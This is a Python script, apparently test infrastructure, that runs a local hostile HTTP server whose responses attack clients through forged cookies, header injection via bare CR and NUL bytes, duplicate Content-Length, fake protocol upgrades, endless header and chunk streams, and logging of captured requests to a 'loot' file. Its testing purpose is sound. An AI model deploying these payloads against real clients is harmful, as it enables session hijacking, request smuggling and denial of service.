"""Runs inside a container: a web service whose answers are attacks, one for each path. `python3 hostileweb.py PORT`."""

from __future__ import annotations

import os
import socket
import sys
import threading
import time

LOOT = os.path.join(os.environ.get("MLENV_WORKSPACE", "."), "loot")
FORGED = b'Set-Cookie: _xsrf=forged; Path=/\r\nClear-Site-Data: "*"\r\nService-Worker-Allowed: /\r\n'
PAGE = b"Content-Type: text/html\r\nContent-Length: 2\r\n\r\nhi"
ORIGIN = (
    b'Service-Worker-Allowed: /\r\nClear-Site-Data: "*"\r\nX-Accel-Redirect: /secret\r\nX-Sendfile: /etc/passwd\r\n'
    b"X-Accel-Buffering: no\r\nAccept-CH: Sec-CH-UA-Full-Version\r\nStrict-Transport-Security: max-age=9\r\n"
    b'WWW-Authenticate: Basic realm="outer"\r\nSet-Login: logged-in\r\nRefresh: 0; url=/lab\r\n'
    b"Set-Cookie: _xsrf=forged; Path=/; Domain =127.0.0.1\r\nSet-Cookie: =username-x=forged; Path=/\r\n"
)
ANSWERS = {
    "plain": b"HTTP/1.1 200 OK\r\n" + PAGE,
    "upgrade": b"HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n\r\n"
    b"HTTP/1.1 200 OK\r\n" + FORGED + PAGE,
    "reason": b"HTTP/1.1 200 x\nSet-Cookie: _xsrf=forged; Path=/\r\n" + PAGE,
    "reason101": b"HTTP/1.1 101 x\nSet-Cookie: _xsrf=forged; Path=/\r\nUpgrade: websocket\r\n"
    b"Connection: Upgrade\r\n\r\n",
    "origin": b"HTTP/1.1 200 OK\r\n" + ORIGIN + PAGE,
    "value": b"HTTP/1.1 200 OK\r\nX-A: b\rSet-Cookie: _xsrf=forged\r\n" + PAGE,
    "nul": b"HTTP/1.1 200 OK\r\nX-A: b\0c\r\n" + PAGE,
    "two": b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nContent-Length: 200\r\n\r\nhi",
}


def handle(client: socket.socket) -> None:
    data = b""
    while b"\r\n\r\n" not in data:
        more = client.recv(65536)
        if not more:
            return
        data += more
    with open(LOOT, "ab") as file:
        file.write(data + b"\n")
    name = data.split(b" ")[1].decode("latin-1").split("?")[0].rstrip("/").rpartition("/")[2]
    if name == "interim":
        while True:
            client.sendall(b"HTTP/1.1 103 Early Hints\r\nLink: </x>\r\n\r\n" * 100)
    elif name == "chunks":
        client.sendall(b"HTTP/1.1 200 OK\r\nTransfer-Encoding: chunked\r\n\r\n")
        while True:
            client.sendall(b"1\r\nx\r\n" * 1000)
    elif name == "slowhead":
        for byte in b"HTTP/1.1 200 OK\r\n" + b"X: y\r\n" * 10_000:
            client.sendall(bytes([byte]))
            time.sleep(0.1)
    elif name == "head":
        client.sendall(b"HTTP/1.1 200 OK\r\n")
        while True:
            client.sendall(b"X-Long: " + b"x" * 8000 + b"\r\n")
    else:
        client.sendall(ANSWERS.get(name, ANSWERS["plain"]))
        rest = client.recv(65536)  # what comes behind, on a connection that was handed over
        if rest:
            with open(LOOT, "ab") as file:
                file.write(b"behind: " + rest + b"\n")
            client.sendall(b"HTTP/1.1 200 OK\r\n" + FORGED + PAGE)


def guarded(client: socket.socket) -> None:
    try:
        handle(client)
    except OSError:
        pass
    finally:
        client.close()


def main() -> None:
    if os.fork():
        os._exit(0)
    os.setsid()
    listener = socket.socket()
    listener.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    listener.bind(("127.0.0.1", int(sys.argv[1])))
    listener.listen(64)
    quiet = os.open(os.devnull, os.O_RDWR)
    for number in (0, 1, 2):
        os.dup2(quiet, number)
    while True:
        threading.Thread(target=guarded, args=(listener.accept()[0],), daemon=True).start()


if __name__ == "__main__":
    main()
